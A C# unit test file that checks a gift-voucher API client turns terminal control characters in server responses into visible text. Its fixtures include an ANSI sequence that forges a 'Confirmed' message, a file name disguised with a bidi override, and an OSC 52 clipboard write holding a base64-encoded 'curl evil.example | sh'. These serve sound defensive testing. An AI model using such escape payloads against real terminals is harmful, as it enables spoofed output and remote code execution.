using System;
using System.Linq;
using System.Threading.Tasks;
using SmartGift.Testing;

namespace SmartGift.Core.Tests.Security;

/// <summary>
/// Issue 22 finding 9: a 422 message "Refused \e[2K\r\e[32mConfirmed (fake)\e[0m" showed a
/// green "Confirmed (fake)" in place of the error, and a catalogue name with \e]52;c;...\a wrote
/// the operator's clipboard. Server text now reaches every host with its control characters visible.
/// </summary>
public class TerminalEscapeTests
{
    private const string Fake = "Refused \u001b[2K\r\u001b[32mConfirmed (fake)\u001b[0m";
    private const string Clipboard = "Gift \u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007card";

    [Theory]
    [InlineData("plain text", "plain text")]
    [InlineData("a\u001b[31mb", "a\\e[31mb")]
    [InlineData("a\u0000b\u0001c", "a\\u0000b\\u0001c")]
    [InlineData("line\r\nnext", "line\\r\\nnext")]
    [InlineData("c1 \u009b31m", "c1 \\u009B31m")]
    [InlineData("bidi \u202egnp.exe", "bidi \\u202Egnp.exe")]
    [InlineData("pair \ud83d\ude00 kept", "pair \ud83d\ude00 kept")]
    [InlineData("caf\u00e9 \\e stays", "caf\u00e9 \\e stays")]
    public void Control_characters_are_made_visible(string text, string shown)
    {
        Assert.Equal(shown, VisibleText.Of(text));
    }

    [Fact]
    public void A_lone_surrogate_is_made_visible()
    {
        Assert.Equal("lone \\uD800 surrogate", VisibleText.Of("lone " + (char)0xD800 + " surrogate"));
    }

    [Fact]
    public void Lines_keeps_the_hosts_own_line_breaks_only()
    {
        Assert.Equal("one\ntwo\r\n\tthree \\e[1m \\r", VisibleText.Lines("one\ntwo\r\n\tthree \u001b[1m \r"));
    }

    [Fact(Timeout = 60_000)]
    public async Task A_refusal_with_escape_sequences_reads_as_text()
    {
        using var server = new HostileServer(_ => HostileAnswer.Json(422,
            "{\"message\":\"" + Json(Fake) + "\",\"errors\":{\"" + Json("voucher\u001b[8m") + "\":[\"" + Json(Fake) + "\"]}}"));
        using var client = Client(server.BaseAddress);

        var e = await Assert.ThrowsAsync<SmartGiftException>(() => client.RedeemAsync(new RedeemRequest { VoucherNumber = "DEMO000001", SiteId = "1", Amount = 5m }));

        foreach (var text in new[] { e.Message, e.Error.Message, e.Error.ToString() }.Concat(e.Error.FieldErrors.Keys).Concat(e.Error.FieldErrors.Values.SelectMany(v => v)))
        {
            Assert.DoesNotContain('\u001b', text);
            Assert.DoesNotContain('\r', text);
        }
        Assert.True(e.Error.Message.Contains("Refused \\e[2K\\r\\e[32mConfirmed (fake)\\e[0m", StringComparison.Ordinal), e.Error.Message);
    }

    [Fact(Timeout = 60_000)]
    public async Task A_catalogue_name_cannot_write_the_clipboard()
    {
        using var server = new HostileServer(_ => HostileAnswer.Json(200,
            "{\"data\":[{\"id\":1,\"name\":\"" + Json(Clipboard) + "\",\"description\":\"\\u0000desc\",\"type\":\"monetary\",\"status\":\"active\",\"price\":\"10.00\"}]}"));
        using var client = Client(server.BaseAddress);

        var voucher = Assert.Single((await client.GetVouchersAsync()).Items);

        Assert.Equal("Gift \\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007card", voucher.Name);
        Assert.Equal("\\u0000desc", voucher.Description);
    }

    private static string Json(string text) => System.Text.Json.JsonEncodedText.Encode(text, System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping).ToString();

    private static SmartGiftClient Client(Uri baseUri)
    {
        var key = ApiKey.FromString("sk_test_terminal_escapes");
        RateGovernorRegistry.Forget(baseUri, key);
        return new SmartGiftClient(new SmartGiftClientOptions(baseUri, key) { MaxGetAttempts = 1 });
    }
}
